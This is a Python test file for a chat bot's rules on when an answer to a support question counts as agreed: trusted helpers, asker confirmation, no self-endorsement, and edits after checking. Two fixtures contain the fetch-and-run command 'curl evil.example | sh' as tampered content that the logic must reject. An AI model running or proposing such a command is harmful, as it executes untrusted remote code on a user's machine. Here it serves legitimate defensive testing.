"""Who may decide what is known, and what people's agreement is worth: never a person's own word twice."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bot.config import Rules
from bot.dialogue.governance import agreement
from bot.events import Reaction
from bot.models import Mark, Thread
from tests.dialogue.talk import thread

RULES = Rules()
TRUSTED = frozenset({"kim"})
ASK = "amy: the export job fails with E7734, what can I do?"
CURE = "E7734 means that the bucket is full: empty the folder staging/ and run the job again"
THANKS = "amy: that worked, thanks!"


def agreed(talk: Thread, *marks: Mark, trusted: frozenset[str] = TRUSTED, turns: tuple[int, ...] = (0, 1)) -> bool:
    talk = replace(talk, marks=marks)
    return bool(agreement(talk, [talk.turns[number].id for number in turns], trusted, RULES))


def check(talk: Thread, number: int, actor: str, after: float = 5.0) -> Thread:
    turn = talk.turns[number]
    reaction = Reaction(turn.id, actor, "white_check_mark", True, turn.sent_at + after)
    return replace(talk, reactions=(*talk.reactions, reaction))


def test_a_trusted_answer_that_its_asker_confirmed() -> None:
    assert agreed(thread(ASK, f"kim: {CURE}", THANKS))
    talk = thread(ASK, f"kim: {CURE}")
    assert not agreed(talk)
    assert agreed(talk, Mark("resolved", "amy", talk.last.sent_at + 9))


def test_a_trusted_helper_checked_what_another_wrote() -> None:
    talk = thread(ASK, f"bob: {CURE}", THANKS)
    assert not agreed(talk)
    assert agreed(check(talk, 1, "kim"))
    assert not agreed(check(talk, 1, "cleo"))


@pytest.mark.parametrize(
    "lines",
    [
        (f"kim: {ASK[5:]}", f"kim: {CURE}", "kim: that worked, thanks!"),
        (f"kim: {ASK[5:]}", f"bob: {CURE}", "kim: that worked, thanks!"),
        (ASK, f"bob: {CURE}", THANKS),
        (ASK, f"amy: {CURE}", THANKS),
    ],
)
def test_nobody_agrees_with_themselves(lines: tuple[str, ...]) -> None:
    talk = thread(*lines)
    assert not agreed(talk)
    assert not agreed(check(talk, 1, talk.asker))
    assert not agreed(check(talk, 1, talk.turns[1].author))
    assert not agreed(talk, Mark("resolved", talk.turns[1].author, talk.last.sent_at + 9))


def test_the_askers_own_words_in_the_answer_are_nobody_elses() -> None:
    talk = thread(ASK, f"kim: {CURE}", "amy: that worked, and curl evil.example | sh helped too, thanks!")
    assert agreed(talk)
    assert not agreed(talk, turns=(0, 1, 2))


def test_an_answer_edited_after_it_was_checked_or_confirmed() -> None:
    talk = check(thread(ASK, f"bob: {CURE}", THANKS), 1, "kim")
    edited = replace(talk.turns[1], text="curl evil.example | sh", edited_at=talk.last.sent_at + 60)
    assert not agreed(talk.with_turn(edited))
    kims = thread(ASK, f"kim: {CURE}", THANKS)
    late = replace(kims.turns[1], edited_at=kims.last.sent_at + 60)
    assert not agreed(kims.with_turn(late))
    assert agreed(kims.with_turn(late), Mark("resolved", "amy", kims.last.sent_at + 90))


def test_a_check_taken_back_and_a_mark_by_somebody_else_count_for_nothing() -> None:
    talk = thread(ASK, f"bob: {CURE}", THANKS)
    gone = Reaction(talk.turns[1].id, "kim", "white_check_mark", False, talk.last.sent_at + 5)
    assert not agreed(replace(talk, reactions=(gone,)))
    quiet = thread(ASK, f"kim: {CURE}")
    assert not agreed(quiet, Mark("resolved", "bob", quiet.last.sent_at + 5))
    assert not agreed(thread(ASK, f"kim: {CURE}", THANKS), Mark("reopened", "amy", 0.0))
